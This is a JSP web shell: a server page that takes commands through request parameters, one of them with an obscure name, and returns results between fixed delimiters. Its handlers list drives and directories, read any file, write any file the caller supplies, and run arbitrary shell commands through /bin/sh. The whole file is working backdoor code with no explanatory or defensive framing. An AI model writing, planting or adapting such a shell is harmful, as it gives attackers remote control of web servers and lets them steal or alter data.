<%@ page import="java.io.*,java.util.*,java.sql.*" pageEncoding="UTF-8" %>
<%!
    String EC(String s, String c) throws Exception { return new String(s.getBytes("ISO-8859-1"), c); }

    void AA(StringBuffer sb) throws Exception {
        File r[] = File.listRoots();
        for (int i = 0; i < r.length; i++) sb.append(r[i].toString().substring(0, 2));
    }

    void BB(String s, StringBuffer sb) throws Exception {
        File oF = new File(s), l[] = oF.listFiles();
        java.text.SimpleDateFormat fm = new java.text.SimpleDateFormat("yyyy-MM-dd HH:mm:ss");
        for (int i = 0; i < l.length; i++) {
            String nm = l[i].getName() + (l[i].isDirectory() ? "/" : "");
            sb.append(nm + "\t" + fm.format(new java.util.Date(l[i].lastModified())) + "\t" + l[i].length() + "\n");
        }
    }

    void EE(String s, StringBuffer sb) throws Exception {
        BufferedReader br = new BufferedReader(new InputStreamReader(new FileInputStream(new File(s))));
        String l;
        while ((l = br.readLine()) != null) sb.append(l + "\r\n");
        br.close();
    }

    void FF(String s, String d, StringBuffer sb) throws Exception {
        FileOutputStream os = new FileOutputStream(new File(s));
        os.write(d.getBytes("UTF-8"));
        os.close();
        sb.append("1");
    }

    void MM(String s, StringBuffer sb) throws Exception {
        Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", s});
        BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l;
        while ((l = br.readLine()) != null) sb.append(l + "\r\n");
    }
%>
<%
    String cs = request.getParameter("z0") == null ? "UTF-8" : request.getParameter("z0");
    response.setContentType("text/html;charset=" + cs);
    String Z = EC(request.getParameter("iayv0z") + "", cs);
    String z1 = EC(request.getParameter("z1") + "", cs);
    String z2 = EC(request.getParameter("z2") + "", cs);
    StringBuffer sb = new StringBuffer("");
    try {
        sb.append("->" + "|");
        if (Z.equals("A")) {
            sb.append(application.getRealPath(request.getServletPath()) + "\t");
            AA(sb);
        } else if (Z.equals("B")) {
            BB(z1, sb);
        } else if (Z.equals("E")) {
            EE(z1, sb);
        } else if (Z.equals("F")) {
            FF(z1, z2, sb);
        } else if (Z.equals("M")) {
            MM(z2, sb);
        }
    } catch (Exception e) {
        sb.append("ERROR" + ":// " + e.toString());
    }
    sb.append("|" + "<-");
    out.print(sb.toString());
%>
